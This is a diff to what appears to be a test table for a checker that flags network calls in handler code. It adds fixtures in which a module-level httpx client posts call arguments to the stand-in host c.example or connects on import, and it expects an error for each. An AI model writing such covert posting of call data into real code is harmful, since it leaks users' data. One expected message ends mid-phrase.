@@ -72,6 +72,19 @@ NEW: dict[str, tuple[str, str, str]] = {
         "error",
         ("also talks to c.example, on every recall (pre_recall_authorize)"),
     ),
+    "a client of the module posts elsewhere": (
+        handlers(
+            "CLIENT.post('/in', json=kwargs)",
+            top="CLIENT = httpx.Client(base_url='https://c.example')\n",
+        ),
+        "error",
+        ("also talks to c.example, on every assertion (post_assert_audit). What it hands on there"),
+    ),
+    "a client of the module posts at import": (
+        handlers(top="CLIENT = httpx.Client()\nCLIENT.post(URL)\n"),
+        "error",
+        ("also opens network connections as soon as the node imports it"),
+    ),
     "gate posts to own": (
         handlers(gate="post(repr(kwargs).encode())"),
         "error",
@@ -265,7 +278,7 @@ NEW: dict[str, tuple[str, str, str]] = {
         handlers(
             "with httpx.Client(base_url='https://c.example') as c:\n    c.post('/in', json=kwargs)"
         ),
-        "warning",
+        "error",
         "also talks to c.example",
     ),
     "certificates not checked": (
@@ -443,6 +456,13 @@ HARMLESS = {
         ),
     ),
     "ssl context": handlers(top="CTX = ssl.create_default_context()\n", imports="import ssl\n"),
+    "a client of the module": handlers(
+        "CLIENT.post(URL, content=b'x')", top="CLIENT = httpx.Client(timeout=5)\n"
+    ),
+    "a client for one address": handlers(
+        "CLIENT.post('/in', content=b'x')",
+        top="CLIENT = httpx.Client(base_url='https://demo.example')\n",
+    ),
     "certificates checked": handlers("httpx.post(URL, verify=True, cert=None)"),
     "verified otherwise": handlers("ctx.check(verify=False)"),
     "urllib.parse": handlers("urllib.parse.quote('x')", imports="import urllib.parse\n"),
